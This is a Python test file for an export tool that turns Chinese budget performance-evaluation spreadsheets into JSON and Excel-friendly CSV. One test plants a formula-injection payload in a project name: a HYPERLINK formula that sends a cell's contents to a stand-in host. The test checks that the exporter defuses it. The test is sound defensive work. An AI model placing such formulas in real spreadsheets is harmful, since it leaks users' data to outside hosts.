"""evalbook export: the records of every form as JSON, and as two CSV files (UTF-8 with BOM, so
Excel shows Chinese text) that other systems and spreadsheets read."""
import csv
import glob
import json
import os
import shutil
import tempfile

from evalbook_test import SAMPLES, main, run

TMP = tempfile.mkdtemp(prefix="evalbook-export-")
P01 = os.path.join(SAMPLES, "004_project_01_2023年市级“爱心消费券”专项资金.xlsx")
P000 = os.path.join(SAMPLES, "000_project_出口信用保险保费补助资金.xlsx")


def test_json_records_equal_check_records():
    files = [P01, P000]
    exported = json.loads(run("export", *files, "--format", "json").stdout)
    checked = json.loads(run("check", *files, "--format", "json", check=False).stdout)
    want = [(f["file"], form["sheet"], form["record"]) for f in checked["files"] for form in f["forms"]]
    got = [(f["file"], f["sheet"], f["record"]) for f in exported["forms"]]
    assert got == want
    assert exported["unreadable"] == []


def test_csv_files_with_bom_one_row_per_form_and_per_item():
    out = os.path.join(TMP, "csv")
    run("export", P01, P000, "--format", "csv", "--headers", "field", "-o", out)
    with open(os.path.join(out, "forms.csv"), "rb") as f:
        assert f.read(3) == b"\xef\xbb\xbf"
    forms = list(csv.DictReader(open(os.path.join(out, "forms.csv"), encoding="utf-8-sig")))
    assert len(forms) == 2
    f01 = next(f for f in forms if f["template"] == "project-2023")
    # Seed 004 line 596: 资金总额: 369.405 369.405 369.405 369.405 0 100 10 -> 全年预算数 369.405
    assert f01["budget_full_year"] == "369.405"
    assert f01["execution_rate"] == "100.00%"  # 100 (percent units) -> 1, shown as Excel does
    # Seed 004 line 606 (总分 row): 100 优
    assert f01["total_score"] == "100" and f01["grade"] == "优"
    # Seed 000 line 55: 投入： 20 11.00 -> the 投入 section score 11
    f000 = next(f for f in forms if f["template"] == "project-jinzhong-2020")
    assert f000["sections.投入"] == "11"
    items = list(csv.DictReader(open(os.path.join(out, "indicators.csv"), encoding="utf-8-sig")))
    ind01 = [r for r in items if r["template"] == "project-2023" and r["list"] == "indicators"]
    assert len(ind01) == 7  # seed 004 lines 600-606: seven indicator rows
    # Seed 004 line 600: 产出指标 数量指标 发放人员数量 ≤8209人 ≤8209人 ≤8038人 20 20
    assert (ind01[0]["name"], ind01[0]["actual"], ind01[0]["weight"]) == ("发放人员数量", "≤8038人", "20")


def test_csv_for_excel_users():
    """Chinese headers by default, rates as 100.00% (JSON keeps the fraction), no column empty on
    every row, 单位 and 项目名称 on every indicator row, 决算 rows in final_accounts.csv."""
    accounts = os.path.join(SAMPLES, "004_final_accounts_晋城市商务局2023年度部门决算公开.xlsx")
    out = os.path.join(TMP, "zh")
    run("export", P01, accounts, "--format", "csv", "-o", out)
    forms = list(csv.DictReader(open(os.path.join(out, "forms.csv"), encoding="utf-8-sig")))
    f01 = next(f for f in forms if f["模板"] == "project-2023")
    # Seed 004 line 596: 资金总额 369.405 369.405 369.405 369.405 0 100 10: 执行率 = 369.405 ÷ 369.405 = 100%
    assert f01["全年预算数"] == "369.405" and f01["执行率"] == "100.00%", f01
    assert f01["项目名称"] == "2023年市级“爱心消费券”专项资金"
    for name, column in [("forms.csv", forms)]:
        header = list(column[0].keys())
        for field in header:
            assert any(r[field] for r in column) or field in ("文件", "工作表", "模板"), (name, field)
    items = list(csv.DictReader(open(os.path.join(out, "indicators.csv"), encoding="utf-8-sig")))
    assert items and all(r["模板"] == "project-2023" for r in items), {r["模板"] for r in items}
    assert all(r["项目名称"] == "2023年市级“爱心消费券”专项资金" for r in items)
    assert all(r["单位"] == f01["单位"] for r in items) and f01["单位"], f01["单位"]
    for field in items[0].keys():
        assert any(r[field] for r in items) or field in ("文件", "工作表", "模板"), field
    rows = list(csv.DictReader(open(os.path.join(out, "final_accounts.csv"), encoding="utf-8-sig")))
    assert rows and all(r["模板"].startswith("final-accounts-") for r in rows)
    # Seed 004 line 185 (公开03表): 201 一般公共服务支出 1,914.07 753.32 1,160.76
    line = [r for r in rows if r["模板"] == "final-accounts-03" and r["科目编码"] == "201"]
    assert len(line) == 1 and line[0]["合计"] == "1914.07", line
    doc = json.loads(run("export", P01, "--format", "json").stdout)
    assert doc["forms"][0]["record"]["execution_rate"] == 1  # JSON keeps fractions
    proc = run("export", P01, "--format", "csv", "--headers", "english", "-o", out, check=False)
    assert proc.returncode == 2 and "--headers" in proc.stderr.decode()


def test_no_english_under_chinese_headers():
    """Every sample (project, department, 决算 and policy-evaluation forms): the default headers hold
    no field name (no ASCII letter: 任务合计.财政拨款, 三公经费预算数合计, 政策制定...), and 明细类别
    names the list in Chinese; --headers field keeps the field names and list names for scripts."""
    out = os.path.join(TMP, "all")
    run("export", SAMPLES, "--format", "csv", "-o", out)
    field_out = os.path.join(TMP, "all-field")
    run("export", SAMPLES, "--format", "csv", "--headers", "field", "-o", field_out)
    for name in ["forms.csv", "indicators.csv", "final_accounts.csv"]:
        rows = list(csv.reader(open(os.path.join(out, name), encoding="utf-8-sig")))
        english = [h for h in rows[0] if any("a" <= c.lower() <= "z" for c in h)]
        assert not english, (name, english)
        fields = list(csv.reader(open(os.path.join(field_out, name), encoding="utf-8-sig")))
        assert len(fields[0]) == len(rows[0]) and len(fields) == len(rows), name
        if "明细类别" in rows[0]:
            at = rows[0].index("明细类别")
            assert fields[0][at] == "list"
            shown = {r[at] for r in rows[1:]}
            assert shown and not [v for v in shown if v.isascii()], (name, shown)
            listed = {r[at] for r in fields[1:]}
            if name == "indicators.csv":
                assert "绩效指标" in shown and "indicators" in listed, (shown, listed)
            else:
                assert shown == {"科目"} and listed == {"rows"}, (shown, listed)


def test_csv_injection_is_defused():
    """A project name that is a formula reaches forms.csv as text (OWASP: a leading '), while a
    real negative number stays a number."""
    src = os.path.join(TMP, "恶意.xlsx")
    doc = json.loads(run("check", P01, "--format", "json", check=False).stdout)
    cells = doc["files"][0]["forms"][0]["cells"]
    sheet = doc["files"][0]["forms"][0]["sheet"]
    name_cell = cells["project_name"]
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    run("set", P01, "-o", src, f"'{sheet}'!{name_cell}={evil}", "--text")
    out = os.path.join(TMP, "evil")
    run("export", src, "--format", "csv", "-o", out)
    raw = open(os.path.join(out, "forms.csv"), encoding="utf-8-sig").read()
    assert "\"'=HYPERLINK(\"\"http" in raw, raw[:400]
    assert ",=HYPERLINK" not in raw and ',"=HYPERLINK' not in raw
    rows = list(csv.DictReader(open(os.path.join(out, "forms.csv"), encoding="utf-8-sig")))
    assert rows[0]["项目名称"] == "'" + evil
    for lead in ["+", "-", "@", "\t"]:
        run("set", P01, "-o", src, f"'{sheet}'!{name_cell}={lead}SUM(1,2)", "--text")
        run("export", src, "--format", "csv", "-o", out)
        rows = list(csv.DictReader(open(os.path.join(out, "forms.csv"), encoding="utf-8-sig")))
        assert rows[0]["项目名称"] == "'" + lead + "SUM(1,2)", rows[0]["项目名称"]


def test_unreadable_file_is_listed_and_exit_2():
    bad = os.path.join(TMP, "bad.xlsx")
    with open(bad, "wb") as f:
        f.write(b"not a zip")
    proc = run("export", P01, bad, "--format", "json", check=False)
    assert proc.returncode == 2
    doc = json.loads(proc.stdout)
    assert [u["code"] for u in doc["unreadable"]] == ["not_zip"]
    assert len(doc["forms"]) == 1


if __name__ == "__main__":
    try:
        main([test_json_records_equal_check_records, test_csv_files_with_bom_one_row_per_form_and_per_item,
              test_csv_for_excel_users, test_no_english_under_chinese_headers, test_csv_injection_is_defused,
              test_unreadable_file_is_listed_and_exit_2])
    finally:
        shutil.rmtree(TMP, ignore_errors=True)
